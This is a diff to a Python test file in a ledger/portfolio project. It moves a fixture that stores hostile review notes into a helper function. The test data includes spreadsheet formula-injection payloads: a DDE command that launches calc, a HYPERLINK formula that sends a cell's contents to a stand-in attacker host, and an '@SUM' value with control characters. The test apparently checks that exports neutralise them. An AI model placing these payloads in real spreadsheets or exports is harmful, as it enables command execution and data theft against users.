@@ -17,6 +17,7 @@ from portfolio.ledger import exports, tertial_store
 from portfolio.ledger.tertial import load_report
 from portfolio.periods import Period
 from registers.risks import excel
+from tests.stored import bracke_t1_2019_review
 
 CALC = "=cmd|' /C calc'!A0"
 LINK = '=HYPERLINK("http://angripare.example/?q="&A1,"Klicka")'
@@ -35,15 +36,8 @@ def stored_hostile_notes(db) -> None:
             user_email="x@gns.example",
             expected_version=None,
         )
-        tertial_store.upsert_review(
-            db,
-            year=2019,
-            period="T1",
-            party="BRACKE",
-            user_id=None,
-            user_email="x@gns.example",
-            user_name="@SUM(1+1)\x07",
-            comment=CALC + "\x1b",
+        bracke_t1_2019_review(
+            db, user_email="x@gns.example", user_name="@SUM(1+1)\x07", comment=CALC + "\x1b"
         )
 
 
